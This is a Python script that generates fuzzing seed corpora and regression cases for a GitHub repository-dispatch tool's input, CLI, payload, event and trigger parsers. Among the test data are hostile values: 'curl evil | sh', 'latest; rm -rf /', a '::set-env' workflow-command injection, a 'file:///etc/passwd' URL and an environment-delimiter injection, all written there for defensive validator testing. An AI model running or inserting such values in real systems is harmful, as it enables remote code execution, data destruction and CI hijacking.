#!/usr/bin/env python3
"""Writes the hand-written seeds into fuzz/corpus/<target>/seed-*, and the
minimized findings into fuzz/regressions/<target>/.

The `payload` target takes raw text. The `inputs` and `cli` targets take
structured input decoded by `arbitrary` 1.x (`Case` in fuzz_targets/inputs.rs,
`Vec<&[u8]>` in fuzz_targets/cli.rs); `encode` below writes bytes that decode
to the intended values. Check one with, for example:

    cargo +nightly fuzz fmt inputs fuzz/corpus/inputs/seed-valid-minimal

Run from anywhere: python3 fuzz/seeds.py
"""

import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))


class Encoder:
    """Builds input for `arbitrary::Unstructured`: fixed-size values are read
    from the front, collection lengths from the back (1, 2 or 4 big-endian
    bytes, by how much data is left when the length is read)."""

    def __init__(self):
        self.ops = []  # ("front", bytes) | ("len", n)

    def u8(self, v):
        self.ops.append(("front", bytes([v])))

    def bool(self, v):
        self.u8(1 if v else 0)

    def bytes(self, b):
        self.ops.append(("len", len(b)))
        self.ops.append(("front", b))

    def text(self, s):
        self.bytes(s.encode())

    def opt_text(self, s):
        self.bool(s is not None)
        if s is not None:
            self.text(s)

    def build(self):
        front = b"".join(v for k, v in self.ops if k == "front")
        lens = [v for k, v in self.ops if k == "len"]
        widths = [1] * len(lens)
        for _ in range(20):
            remaining = len(front) + sum(widths)
            new, i = [], 0
            for k, v in self.ops:
                if k == "front":
                    remaining -= len(v)
                    continue
                if remaining <= 1:
                    w = remaining
                elif remaining <= 256:
                    w = 1
                elif remaining <= 65_537:
                    w = 2
                else:
                    w = 4
                assert v <= remaining - w, "length does not fit"
                new.append(w)
                remaining -= w
                i += 1
            if new == widths:
                break
            widths = new
        else:
            raise RuntimeError("widths did not settle")
        back = b""
        for n, w in zip(lens, widths):
            back = (n.to_bytes(w, "big") if w else b"") + back
        return front + back


# --- payload: raw text ------------------------------------------------------

def payload_seeds():
    ten = "{" + ",".join(f'"k{i}":{i}' for i in range(10)) + "}"
    nine = "{" + ",".join(f'"k{i}":{i}' for i in range(9)) + "}"
    eleven = "{" + ",".join(f'"k{i}":{i}' for i in range(11)) + "}"

    def sized(n):  # {"a":"xxx"} of exactly n bytes
        return '{"a":"' + "x" * (n - 8) + '"}'

    deep = lambda n: '{"a":' + "[" * (n - 1) + "1" + "]" * (n - 1) + "}"
    s = {
        "empty-object": "{}",
        "spaced-object": "{ }",
        "pretty": '{\n  "image_tag": "v1.2.3",\n  "environment": "staging"\n}',
        "pretty-crlf": '{\r\n\t"a": [1, 2],\r\n\t"b": {"c": null}\r\n}',
        "untrimmed": ' {"a": 1}\n',
        "big-integer": '{"big": 12345678901234567890123}',
        "beyond-f64-exact": '{"n": 9007199254740993}',
        "number-forms": '{"f": 1.50, "e": 1E+2, "z": -0, "g": 0.1e-7, "h": -12.5E3}',
        "number-out-of-range": '{"huge": 1e400, "tiny": -1e-400}',
        "escapes": r'{"u": "h\u00e9 \ud83d\ude00", "raw": "hé 😀", "c": "\b\f\n\r\t\/"}',
        "spaces-in-strings": r'{"s": "a  b\"  c\\", "t": " { [ , : ] } "}',
        "nested": '{"nested": {"deep": [1, {"x": null}], "t": true, "f": false}}',
        "nested-duplicate": '{"a": {"b": 1, "b": 2}}',
        "nine-keys": nine,
        "ten-keys": ten,
        "eleven-keys": eleven,
        "duplicate-key": '{"a": 1, "a": 2}',
        "duplicate-escaped-key": '{"a": 1, "\\u0061": 2}',
        "dispatch-id-taken": '{"dispatch_id": 1}',
        "bom": "\ufeff{}",
        "single-quotes": "{'a': 1}",
        "trailing-comma": '{"a": 1,}',
        "trailing-comma-array": '{"a": [1,]}',
        "unquoted-key": "{a: 1}",
        "line-comment": '{"a": 1 // c\n}',
        "block-comment": '{"a": /* c */ 1}',
        "hash-comment": '{"a": 1 # c\n}',
        "nan": '{"a": NaN}',
        "infinity": '{"a": Infinity, "b": -Infinity}',
        "lone-close": "}",
        "unclosed": '{"a": 1',
        "unclosed-string": '{"a": "x',
        "trailing-characters": '{"a": 1}}',
        "two-objects": "{} {}",
        "raw-newline": '{"msg": "line one\nline two"}',
        "raw-tab": '{"msg": "a\tb"}',
        "bad-escape": r'{"a": "\x"}',
        "short-unicode-escape": r'{"a": "\u12"}',
        "lone-surrogate-value": r'{"a": "\ud800"}',
        "lone-surrogate-key": r'{"\udc00": 1}',
        "leading-zero": '{"a": 01}',
        "bare-minus": '{"a": -}',
        "leading-dot": '{"a": .5}',
        "plus-sign": '{"a": +1}',
        "exponent-without-digits": '{"a": 1e}',
        "nbsp-outside-string": '{"a":\u00a01}',
        "line-separator-in-string": '{"a": "\u2028\u2029"}',
        "nul-in-string": '{"a": "\u0000"}',
        "array": "[1, 2]",
        "string": '"{\\"a\\":1}"',
        "null": "null",
        "number": "42",
        "true": "true",
        "false": "false",
        "empty": "",
        "whitespace-only": " \n\t ",
        "event-type": "trigger-deploy",
        "event-type-newline": "a\nb",
        "event-type-bell": "a\u0007b",
        "event-type-100-chars": "é" * 100,
        "event-type-101-chars": "x" * 101,
        "depth-128": deep(128),
        "depth-129": deep(129),
        "depth-60000": deep(60_000),
        "size-65534": sized(65_534),
        "size-65535": sized(65_535),
        "size-65534-spaced": '{ "a" : "' + "x" * 65_526 + '" }',
        # with_property("dispatch_id", <36 chars>) adds 52 bytes: 65482 + 52 = 65534.
        "size-room-for-id": sized(65_482),
        "size-no-room-for-id": sized(65_483),
    }
    return {k: v.encode() for k, v in s.items()}


# --- inputs: `Case` ---------------------------------------------------------

FIELDS = [
    "repository", "github_repository", "event_type", "client_payload", "api_url",
    "timeout", "max_retry_wait", "retries", "retry_on_server_error",
    "allow_insecure_http", "dispatch_interval", "fail_fast", "wait_for_run",
    "dispatch_id_key", "discovery_timeout", "wait_timeout", "fail_on_run_failure",
    "workflow", "git_ref", "workflow_inputs", "check_receiver",
]
PLACES = {"INPUT_TOKEN": 0, "GH_TOKEN": 1, "GITHUB_TOKEN": 2, None: 3}


def case(token="abc123456", place="INPUT_TOKEN", dry_run=False, underscores=False, **fields):
    base = {"repository": "octo/deploy", "event_type": "trigger-deploy"}
    base.update(fields)
    unknown = set(base) - set(FIELDS)
    assert not unknown, unknown
    e = Encoder()
    e.u8((PLACES[place] << 2) | (2 if underscores else 0) | (1 if dry_run else 0))
    e.text(token)
    for f in FIELDS:
        e.opt_text(base.get(f))
    return e.build()


def inputs_seeds():
    hundred = ",".join(f"o/r{i}" for i in range(100))
    ten = "{" + ",".join(f'"k{i}":{i}' for i in range(10)) + "}"
    s = {
        "valid-minimal": case(),
        "check-receiver-fail": case(check_receiver="fail"),
        "check-receiver-off-padded": case(check_receiver=" off\n"),
        "check-receiver-unknown": case(check_receiver="Warn"),
        "check-receiver-empty": case(check_receiver=""),
        "check-receiver-workflow": case(event_type=None, workflow="deploy.yml", git_ref="main",
                                        check_receiver="fail"),
        "valid-everything": case(
            client_payload='{"environment": "staging", "n": 1.50}',
            api_url="https://ghe.example.com/api/v3/",
            timeout="90", max_retry_wait="0", retries="0", retry_on_server_error="True",
            allow_insecure_http="false", dispatch_interval="250ms", fail_fast="TRUE",
            wait_for_run="true", dispatch_id_key="corr_id", discovery_timeout="1m",
            wait_timeout="1h", fail_on_run_failure="false"),
        "valid-underscores": case(underscores=True, client_payload='{"a": 1}', wait_for_run="true"),
        "valid-list": case(repository="o/a, o/b\nO/A\n\no/c,"),
        "valid-github-repository": case(repository=None, github_repository="octo/self"),
        "empty-repository-with-fallback": case(repository="", github_repository="o/r"),
        "gh-token": case(place="GH_TOKEN"),
        "github-token": case(place="GITHUB_TOKEN", token="  padded123  "),
        "no-token": case(place=None),
        "no-token-dry-run": case(place=None, dry_run=True),
        "token-space": case(token="SECRET value"),
        "token-newline": case(token="SECRET\nvalue"),
        "token-non-ascii": case(token="SECRETé123"),
        "token-control": case(token="SECRET\u0001abc"),
        "token-quote": case(token="SE'CR\"ET\\x"),
        "token-short": case(token=""),
        "repo-missing": case(repository=None),
        "event-type-missing": case(event_type=None),
        "event-type-empty": case(event_type=""),
        "event-type-long": case(event_type="x" * 101),
        "event-type-newline": case(event_type="a\nb"),
        "payload-empty": case(client_payload=""),
        "payload-invalid": case(client_payload="{'a': 1}"),
        "payload-array": case(client_payload="[1]"),
        "wait-ten-keys": case(client_payload=ten, wait_for_run="true"),
        "wait-key-taken": case(client_payload='{"dispatch_id": 1}', wait_for_run="true"),
        "wait-bad-key": case(wait_for_run="true", dispatch_id_key="a.b"),
        "wait-empty": case(wait_for_run=""),
        "retries-11": case(retries="11"),
        "retries-negative": case(retries="-1"),
        "timeout-zero": case(timeout="0"),
        "timeout-word": case(timeout="ten"),
        "timeout-too-long": case(timeout="25h"),
        "timeout-fraction": case(timeout="1.5h", dispatch_interval="0.5"),
        "bool-yes": case(fail_fast="yes"),
        "fan-out-over-timeout": case(repository=hundred, timeout="60"),
        "fan-out-ok": case(repository=hundred),
        "api-empty": case(api_url=""),
        "api-loopback": case(api_url="http://127.0.0.1:8080"),
        "api-ipv6-loopback": case(api_url="http://[::1]:8080/"),
        "api-insecure": case(api_url="http://ghe.example.com"),
        "api-insecure-allowed": case(api_url="http://ghe.example.com", allow_insecure_http="true"),
        "api-scheme": case(api_url="gopher://x"),
        "api-file": case(api_url="file:///etc/passwd"),
        "api-not-url": case(api_url="api.github.com"),
        "api-credentials": case(api_url="https://u:p@ghe.example.com"),
        "api-query": case(api_url="https://x.example/?a=1"),
        "api-idn": case(api_url="https://bücher.example"),
        "api-dot-segments": case(api_url="https://x.example/a/./b/../api/v3//"),
    }
    for i, bad in enumerate([
        "o", "/r", "o/", "o/r/x", "o r/x", "o/r\u00a0", "../x", "o/.", "o/..", "%2e%2e/x",
        "https://github.com/o/r", "git@github.com:o/r.git", "ssh://git@github.com/o/r",
        "-o/r", "o" * 40 + "/r", "o/" + "r" * 101, "a_b/c.d-e", "x/.github", "a/..b",
    ]):
        s[f"repo-{i:02}"] = case(repository=bad)
    return s


# --- cli: Vec<&[u8]> ------------------------------------------------------

def args(*items):
    e = Encoder()
    for a in items:
        e.bool(True)
        e.bytes(a if isinstance(a, bytes) else a.encode())
    e.bool(False)
    return e.build()


def cli_seeds():
    return {
        "full": args("--repository", "o/a", "-r", "o/b", "--event-type=deploy", "-p", "{}",
                     "--dry-run", "--wait", "--no-fail-on-run-failure", "--timeout", "30s",
                     "--api-url", "http://127.0.0.1:1"),
        "all-options": args("-e", "x", "--max-retry-wait", "0", "--retries", "10",
                            "--retry-on-server-error", "--dispatch-interval", "1s", "--fail-fast",
                            "--allow-insecure-http", "--dispatch-id-key", "id",
                            "--discovery-timeout", "2m", "--wait-timeout", "30m", "-n"),
        "help": args("-h"),
        "version": args("--version"),
        "token": args("--token", "ghp_secretvalue1"),
        "token-inline": args("--token=ghp_secretvalue1"),
        "token-short": args("-t", "x"),
        "missing-value": args("--event-type"),
        "unknown": args("--bogus=value"),
        "positional": args("o/r"),
        "dash": args("-"),
        "empty-arg": args(""),
        "switch-value": args("--wait=yes"),
        "two-payloads": args("-p", "{}", "-f", "x.json"),
        "two-stdins": args("-f", "-", "--token-file", "-"),
        "not-utf8": args(b"\xff--x"),
        "value-not-utf8": args("--event-type", b"\xfe\xff"),
        "retries-bad": args("--retries", "11", "--timeout", "0"),
        "api-bad": args("--api-url", "gopher://x"),
        "api-empty": args("--api-url="),
        "api-insecure": args("--allow-insecure-http", "--api-url", "http://ghe.example.com"),
        "bad-key": args("--wait", "--dispatch-id-key", "a.b"),
        "long-event": args("-e", "x" * 101),
        "repo-list": args("--repository=o/a,o/b", "-r", "o/c\no/d", "-p", '{"a": [1, 2]}'),
    }


# --- receive: raw event files ------------------------------------------------

def receive_seeds():
    import json

    def event(payload, action="trigger-deploy", login="octocat", member="client_payload"):
        e = {"action": action, "branch": "main", member: payload,
             "repository": {"full_name": "octo-org/deployments"},
             "sender": {"login": login, "type": "User"}, "installation": {"id": 1}}
        return json.dumps(e).encode()

    ok = {"image_tag": "sha-0123abc", "environment": "staging"}
    return {
        "valid": event(ok),
        "valid-all": event(dict(ok, replicas=3, note="line one\nline two")),
        "valid-bot": event(ok, login="Deploy-Bot[bot]"),
        "valid-inputs": event(dict(ok, replicas=1.0), member="inputs"),
        "null-payload": event(None),
        "array-payload": event(["sha-0123abc"]),
        "extra": event(dict(ok, script="curl evil | sh")),
        "bad-pattern": event(dict(ok, image_tag="latest; rm -rf /")),
        "bad-enum": event(dict(ok, environment="prod")),
        "bad-type": event(dict(ok, replicas="3")),
        "long-note": event(dict(ok, note="x" * 300)),
        "long-name": event(dict(ok, **{"k" * 2000: 1})),
        "wrong-action": event(ok, action="deploy\n::set-env name=X::y"),
        "wrong-sender": event(ok, login="mallory"),
        "deep": event({"note": json.loads("[" * 100 + "]" * 100)}),
        "not-json": b'{"action": "trigger-deploy", "client_payload": {',
        # format: regex on long runs of the escapes boon's own check re-parses
        # after, one by one (quadratic there): each judged in linear time.
        "regex-s-run": event(dict(ok, pattern_text="\\s" * 21_000)),
        "regex-d-run": event(dict(ok, pattern_text="\\d" * 21_000)),
        "regex-w-class": event(dict(ok, pattern_text="[" + "\\w" * 20_000 + "]")),
        "regex-c-run": event(dict(ok, pattern_text="\\cA" * 15_000)),
        "regex-run-then-lookahead": event(dict(ok, pattern_text="\\s" * 20_000 + "(?=x)")),
        "regex-run-then-bell": event(dict(ok, pattern_text="\\D" * 20_000 + "\\a")),
        "regex-short": event(dict(ok, pattern_text="^[a-z\\d]+\\cJ(?:x|\\W)$")),
        "regex-short-bad": event(dict(ok, pattern_text="(a)\\1")),
        "multi-line-env": event(dict(ok, note="line one\r\nEOF\nghadelimiter_0\nlast")),
        "event-array": b'[{"action": "trigger-deploy", "client_payload": {}}]',
    }


# --- regressions: minimized findings, replayed by run.sh ----------------------

def regressions():
    return {
        "inputs": {
            # idna_adapter 1.0.0's debug_assert!(!c.is_ascii_uppercase()).
            "api-url-uppercase-non-ascii-host": case(api_url="https://Bücher.example"),
            "api-url-uppercase-percent-encoded-host": case(api_url="https://B%C3%BCcher.example"),
            "api-url-percent-encoded-uppercase-host": case(api_url="https://%41%C3%BC.example"),
        },
        "cli": {
            "api-url-uppercase-non-ascii-host": args("--api-url=https://Bücher.example"),
            # A `--token=` argument that is not UTF-8 is echoed whole.
            "token-value-not-utf8-echoed": args(b"--token=ghp_secret1\xff"),
        },
    }


def triggers_seeds():
    deploy = ("'on':\n  repository_dispatch:\n    types: [trigger-deploy, rollback]\n"
              "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
              "      - run: echo \"${{ github.event.client_payload.x }}\"\n")
    return {
        "string": b"on: repository_dispatch\n",
        "list": b"on: [push, repository_dispatch]\n",
        "types-list": deploy.encode(),
        "types-string": b"on:\n  repository_dispatch:\n    types: deploy\n",
        "null": b"on:\n  push:\n    branches: [main]\n  repository_dispatch:\njobs: {}\n",
        "alias": b"x: &a [d]\non: {repository_dispatch: {types: *a}}\n",
        "alias-nest": b"a0: &a0 [x, x, x]\na1: &a1 [*a0, *a0, *a0]\non: *a1\n",
        "not-yaml": b"on: [push\n",
        "malformed": b"on:\n  repository_dispatch: yes\n",
        "deep": b"on: " + b"[" * 300 + b"]" * 300 + b"\n",
    }


def main():
    for target, files in regressions().items():
        d = os.path.join(HERE, "regressions", target)
        os.makedirs(d, exist_ok=True)
        for name, data in files.items():
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)
    for target, seeds in [("payload", payload_seeds()), ("inputs", inputs_seeds()),
                          ("cli", cli_seeds()), ("receive", receive_seeds()),
                          ("triggers", triggers_seeds())]:
        d = os.path.join(HERE, "corpus", target)
        os.makedirs(d, exist_ok=True)
        for old in os.listdir(d):
            if old.startswith("seed-"):
                os.remove(os.path.join(d, old))
        for name, data in seeds.items():
            with open(os.path.join(d, f"seed-{name}"), "wb") as f:
                f.write(data)
        print(f"{target}: {len(seeds)} seeds")


if __name__ == "__main__":
    main()
